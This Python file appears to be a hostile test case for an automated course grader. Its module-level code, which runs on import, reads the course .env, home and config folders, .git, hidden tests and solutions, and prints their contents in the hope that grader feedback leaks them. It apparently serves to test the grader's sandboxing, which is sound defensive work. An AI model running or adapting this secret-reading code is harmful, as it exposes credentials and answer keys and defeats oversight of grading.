"""Hostile case: reads the course's .env, the home folder, .git, tests/hostile and solutions/ by path
(targets.txt lists where they are), and prints what it finds, hoping the feedback echoes it back."""

import os
from pathlib import Path

here = Path(__file__).parent
print("READ-SECRETS-RAN")
for line in (here / "targets.txt").read_text().splitlines() + ["/home", os.path.expanduser("~/.config")]:
    target = Path(line)
    try:
        if target.is_dir():
            for p in sorted(target.rglob("*"))[:200]:
                if p.is_file():
                    print("found", p, p.read_bytes()[:300])
        else:
            print("found", target, target.read_bytes()[:300])
    except OSError as err:
        print("read-secrets:", target, type(err).__name__)


def build_messages(prompt=""):
    raise NotImplementedError


def first_completion(client):
    raise NotImplementedError


def summarize(completion):
    raise NotImplementedError
